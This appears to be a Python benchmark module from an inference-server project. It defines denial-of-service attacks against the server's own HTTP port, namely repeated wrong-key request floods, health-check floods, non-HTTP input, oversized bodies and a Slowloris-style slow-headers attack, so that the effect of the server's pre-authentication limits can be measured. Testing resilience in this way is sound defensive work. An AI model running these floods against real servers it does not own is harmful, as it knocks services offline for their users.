"""Attacks on a server's HTTP port, by a client without a key.

Each goes on for a time on one connection after another, several of them at once, as a server closes those that it
refuses too often. `ATTACKS` has them by name; `kakeya bench hostile` measures what a victim notices.
"""

from __future__ import annotations

import asyncio
import contextlib
import sys
import time
from collections.abc import Callable, Coroutine
from typing import Any

from inference_engine.server.preauth_limits import FIRST_BYTES, MOST_REFUSALS

HEALTH = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n"
WRONG_KEY = b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer wrong\r\n\r\n"
NO_HTTP = b"not HTTP\r\n\r\n"
LONG_BODY = b"POST /healthz HTTP/1.1\r\nHost: localhost\r\nContent-Length: 9999999\r\n\r\n" + bytes(9_999_999)
AT_ONCE = 16
SLOW_CONNECTIONS = 200
# So that an attack takes no more of a processor it shares with its victim than an attacker elsewhere would.
PAUSE_SECONDS = 0.01

Attack = Callable[[str, float, str | None], Coroutine[Any, Any, int]]


async def connect(target: str, source: str | None) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    """None if the system drops the attempt, or the server ends it."""
    host, _, port = target.rpartition(":")
    with contextlib.suppress(OSError):  # a timeout is one
        async with asyncio.timeout(0.5):
            return await asyncio.open_connection(host, int(port), local_addr=None if source is None else (source, 0))
    return None


async def says(target: str, source: str | None, said: bytes, seconds: float = 20.0) -> bool:
    """On a connection of its own, until the server closes that. Returns whether there was one.

    Raises TimeoutError if the server does not close it within `seconds`.
    """
    if (connection := await connect(target, source)) is None:
        return False
    reader, writer = connection
    try:
        with contextlib.suppress(ConnectionError):
            writer.write(said)
            async with asyncio.timeout(seconds):
                while await reader.read(65536):
                    pass
    finally:
        writer.close()
    return True


def repeating(said: bytes) -> Attack:
    """Send this, over and over."""

    async def attack(target: str, seconds: float, source: str | None) -> int:
        ends, sent = time.monotonic() + seconds, 0

        async def one() -> None:
            nonlocal sent
            while (left := ends - time.monotonic()) > 0:
                with contextlib.suppress(TimeoutError):
                    sent += await says(target, source, said, left)
                await asyncio.sleep(PAUSE_SECONDS)

        await asyncio.gather(*(one() for _ in range(AT_ONCE)))
        return sent

    return attack


async def slow_headers(target: str, seconds: float, source: str | None) -> int:
    """Heads of requests that grow by a byte at a time and never end; those that are closed begin again."""
    ends, sent = time.monotonic() + seconds, 0

    async def one() -> None:
        nonlocal sent
        while time.monotonic() < ends:
            if (connection := await connect(target, source)) is None:
                await asyncio.sleep(PAUSE_SECONDS)
                continue
            reader, writer = connection
            with contextlib.suppress(ConnectionError):
                writer.write(b"GET /v1/models HTTP/1.1\r\nX: ")
                while time.monotonic() < ends and not reader.at_eof():
                    writer.write(b"x")
                    sent += 1
                    await asyncio.sleep(0.2)
            writer.close()

    await asyncio.gather(*(one() for _ in range(SLOW_CONNECTIONS)))
    return sent


ATTACKS: dict[str, Attack] = {
    "requests with a wrong key": repeating(WRONG_KEY * MOST_REFUSALS),
    "a flood of health": repeating(HEALTH * (FIRST_BYTES // len(HEALTH))),
    "what is no HTTP": repeating(NO_HTTP),
    "a long body": repeating(LONG_BODY),
    "slow headers": slow_headers,
}

if __name__ == "__main__":
    # target, name of an attack, seconds, and the attacker's address if it has one of its own
    print("begins", flush=True)
    asyncio.run(ATTACKS[sys.argv[2]](sys.argv[1], float(sys.argv[3]), sys.argv[4] if len(sys.argv) > 4 else None))
